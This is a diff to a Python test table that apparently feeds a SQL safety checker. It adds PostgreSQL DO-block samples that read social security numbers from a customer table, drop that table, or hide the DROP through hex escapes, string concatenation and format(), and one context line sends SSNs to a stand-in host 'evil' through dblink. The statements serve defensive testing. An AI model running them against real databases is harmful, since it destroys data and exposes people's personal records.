@@ -314,13 +314,32 @@ CASES: dict[str, tuple[tuple[Check, ...], list[str]]] = {
             "SELECT dblink('host=evil', ssn) FROM cust",
         ],
     ),
-    "27 and 28 opaque code": (
-        (refused, has_feature("opaque_code"), does("execute")),
+    "27 what a block of code reads": (
+        (has_kind("do", "select"), reads(), does("execute")),
         [
             "DO $$ BEGIN RAISE NOTICE '%',(SELECT ssn FROM cust); END $$",
+            "DO 'DECLARE v text; BEGIN SELECT ssn INTO v FROM cust; RAISE NOTICE ''%'', v; END'",
+            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT ssn AS x FROM cust LOOP RAISE NOTICE '%', r.x; END LOOP; END $$",
+            "DO $$ BEGIN IF (SELECT ssn FROM cust LIMIT 1) LIKE '0%' THEN NULL; END IF; END $$",
+        ],
+    ),
+    "28 what a block of code runs": (
+        (has_kind("do", "drop_table"), does("execute", "delete")),
+        [
+            "DO $x$ BEGIN DROP TABLE cust; END $x$",
+            "DO $x$ BEGIN EXECUTE 'DROP TABLE cust'; END $x$",
+            "DO $x$ BEGIN EXECUTE E'DR\\x4fP TABLE cust'; END $x$",
+            "DO $x$ BEGIN IF true THEN BEGIN NULL; EXCEPTION WHEN OTHERS THEN DROP TABLE cust; END; END IF; END $x$",
+        ],
+    ),
+    "28 opaque code": (
+        (refused, does("execute")),
+        [
             "DO $x$ BEGIN EXECUTE 'DRO'||'P TABLE cust'; END $x$",
+            "DO $x$ DECLARE q text := 'DROP TABLE cust'; BEGIN EXECUTE q; END $x$",
+            "DO $x$ DECLARE r record; BEGIN FOR r IN EXECUTE format('DROP TABLE %I', 'cust') LOOP END LOOP; END $x$",
             "DO LANGUAGE plpython3u $$ import os $$",
-            "do 'begin end'",
+            "DO $x$ BEGIN nonsense here; END $x$",
             "CALL wipe(1)",
         ],
     ),
